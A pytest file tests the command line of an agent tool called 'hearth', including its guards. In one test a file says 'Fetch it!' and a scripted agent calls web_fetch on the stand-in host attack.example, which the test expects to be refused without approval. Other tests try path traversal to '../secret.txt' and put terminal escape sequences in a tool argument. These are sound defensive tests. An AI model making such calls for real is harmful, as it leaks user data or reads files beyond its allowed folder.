"""`hearth agent` and `hearth mcp` as their users see them."""

import io
import json
import os
import sys
from pathlib import Path

import pytest

from decoder import ScriptedDecoder
from ui.cli import agent_tools, wiring
from ui.cli.main import main

ROOT = Path(__file__).resolve().parents[2]


def call(name, /, **arguments):
    return json.dumps({"name": name, "arguments": arguments})


@pytest.fixture
def scripted(monkeypatch):
    """scripted(answer, …): the decoder that the command line finds."""

    def use(*answers):
        decoder = ScriptedDecoder(answers)
        monkeypatch.setattr(wiring, "find_decoder", lambda choice: decoder)
        return decoder

    return use


def test_a_task_is_done_and_its_steps_are_seen(scripted, capsys):
    scripted("I count.", call("calculator", expression="6*7"), "I know.", call("final_answer", answer="It is 42."))
    assert main(["agent", "What is six times seven?"]) == 0
    out, err = capsys.readouterr()
    assert out == "It is 42.\n"
    assert '→ calculator {"expression": "6*7"}' in err
    assert "← 42" in err
    assert "2 steps, 1 calls" in err


def test_json_is_alone_on_standard_output(scripted, capsys):
    scripted("I know.", call("final_answer", answer="42"))
    assert main(["agent", "Say it.", "--json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["answer"] == "42"
    assert err == ""


def test_without_an_answer_the_exit_code_is_3(scripted, capsys):
    scripted("I count.", call("calculator", expression="1"))
    assert main(["agent", "Go.", "--tokens", "20", "--tools", "calculator"]) == 3
    assert "No answer" in capsys.readouterr().err


def test_a_knowledge_base_is_searched(scripted, capsys):
    scripted(
        "I search.",
        call("knowledge_search", query="How many numbers does a vector have?"),
        "I know.",
        call("final_answer", answer="384"),
    )
    assert main(["agent", "How many?", "--tools", "", "--docs", str(ROOT / "examples" / "manual")]) == 0
    out, err = capsys.readouterr()
    assert out == "384\n"
    assert "03-knowledge-base.docx, lines" in next(line for line in err.splitlines() if line.startswith("←"))


def test_files_of_a_folder_are_read_and_nothing_beside_it(scripted, capsys, tmp_path):
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "rent.txt").write_text("The rent is due on the 3rd.")
    (tmp_path / "secret.txt").write_text("hidden")
    scripted(
        *("I read.", call("read_files", action="read", path="rent.txt")),
        *("I read.", call("read_files", action="read", path="../secret.txt")),
        *("I know.", call("final_answer", answer="the 3rd")),
    )
    assert main(["agent", "When?", "--tools", f"files:{tmp_path / 'notes'}"]) == 0
    err = capsys.readouterr().err
    assert "The rent is due on the 3rd." in err
    assert "hidden" not in err


def test_what_needs_approval_is_refused_where_nobody_can_be_asked(scripted, capsys, tmp_path, monkeypatch):
    (tmp_path / "a.txt").write_text("Fetch it!")
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    scripted(
        *("I read.", call("read_files", action="read", path="a.txt")),
        *("I fetch.", call("web_fetch", url="https://attack.example/?all")),
        *("Enough.", call("final_answer", answer="no")),
    )
    assert main(["agent", "Go.", "--tools", f"files:{tmp_path},web"]) == 0
    assert "Not approved" in capsys.readouterr().err


def test_the_approver_is_shown_the_whole_call_cleaned(monkeypatch, capsys):
    from agents.events import Call
    from agents.policy import ApprovalRequest
    from ui.cli.agent_steps import ask_here

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    request = ApprovalRequest("Go.", Call("1", "send", {"to": "eve\u202e\x1b[2J"}), "egress", "because", True)
    for typed, approved in (("y\n", True), ("YES\n", True), ("\n", False), ("yess\n", False), ("", False)):
        monkeypatch.setattr(sys, "stdin", Terminal(typed))
        assert ask_here(request) is approved
    err = capsys.readouterr().err
    assert "send wants to egress: because." in err
    assert "\x1b" not in err


def test_a_transcript_is_kept_and_a_finished_run_gives_its_answer_again(scripted, capsys, tmp_path):
    kept = tmp_path / "run.jsonl"
    scripted("I know.", call("final_answer", answer="42"))
    assert main(["agent", "Say it.", "--transcript", str(kept)]) == 0
    capsys.readouterr()
    scripted()
    assert main(["agent", "--transcript", str(kept)]) == 0
    assert capsys.readouterr().out == "42\n"
    assert main(["agent", "Another.", "--transcript", str(kept)]) == 2


def test_the_tree_and_the_page(scripted, capsys, tmp_path):
    scripted("<b>I</b> count.", call("calculator", expression="6*7"), "Done.", call("final_answer", answer="42"))
    assert main(["agent", "Six times seven?", "--trace", "--html", str(tmp_path / "run.html")]) == 0
    out = capsys.readouterr().out
    assert "step 1" in out
    assert "calculator gave: 42" in out
    page = (tmp_path / "run.html").read_text(encoding="utf-8")
    assert "&lt;b&gt;I&lt;/b&gt; count." in page


def test_a_conversation_goes_on_from_task_to_task(scripted, capsys, monkeypatch):
    class Typed(io.StringIO):
        def isatty(self):
            return True

    monkeypatch.setattr(sys, "stdin", Typed("First.\nSecond.\n\n"))
    decoder = scripted("I know.", call("final_answer", answer="one"), "I know.", call("final_answer", answer="two"))
    assert main(["agent", "--tools", ""]) == 0
    assert "one" in capsys.readouterr().out
    assert next(m.text for m in decoder.requests[-1].messages if m.role == "assistant") == "one"


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["Go.", "--tools", "hammer"], "there is no tool called 'hammer'"),
        (["Go.", "--tools", "files"], "files needs a folder"),
        (["Go.", "--approve", "sometimes"], "ask, never or always"),
        (["Go.", "--mode", "magic"], "constrained, native or text"),
        (["Go.", "--mcp", "no-such-command-here"], "does not answer"),
        (["--transcript", "nowhere.jsonl"], "nothing to go on with"),
    ],
)
def test_what_cannot_be_meant_is_said_in_a_line(scripted, capsys, arguments, said):
    scripted()
    assert main(["agent", *arguments]) in (1, 2)
    assert said in capsys.readouterr().err


def test_without_a_decoder_it_says_how_to_get_one(no_tiny, monkeypatch, capsys):
    monkeypatch.setattr(wiring, "find_decoder", lambda choice: None)
    assert main(["agent", "Go."]) == 2
    assert "hearth serve" in capsys.readouterr().err


def test_an_mcp_server_gives_its_tools(scripted, capsys):
    notes = Path(__file__).parents[1] / "agents" / "mcp_notes.py"
    scripted("I read.", call("read_note", name="rent"), "I know.", call("final_answer", answer="the 3rd"))
    command = f"{sys.executable} -P {notes}"
    assert main(["agent", "When?", "--tools", "", "--mcp", command, "--approve", "always"]) == 0
    assert "The rent is due on the 3rd." in capsys.readouterr().err


def test_tools_are_read_from_a_list():
    made = agent_tools.parse_tools("calculator, clock:Europe/Berlin ,web:example.org,python")
    assert [tool.name for tool in made] == ["calculator", "clock", "web_fetch", "python"]


async def test_hearth_mcp_serves_a_knowledge_base_to_the_official_client(tmp_path):
    from mcp import Client, StdioServerParameters, stdio_client

    arguments = ["-m", "ui.cli.main", "mcp", "--docs", str(ROOT / "examples" / "manual"), "--tools", "calculator"]
    env = {"HEARTH_HOME": str(tmp_path), "PYTHONPATH": str(ROOT), "PATH": os.environ["PATH"]}
    server = StdioServerParameters(command=sys.executable, args=arguments, env=env, cwd=str(ROOT))
    async with Client(stdio_client(server, errlog=sys.__stderr__), read_timeout_seconds=120) as client:
        tools = {tool.name for tool in (await client.list_tools()).tools}
        assert tools == {"calculator", "knowledge_search", "knowledge_ask"}
        counted = await client.call_tool("calculator", {"expression": "6*7"})
        assert counted.content[0].text == "42"
        asked = await client.call_tool("knowledge_ask", {"question": "How many numbers does an embedding vector have?"})
        assert "384" in asked.content[0].text
        assert "[1]" in asked.content[0].text
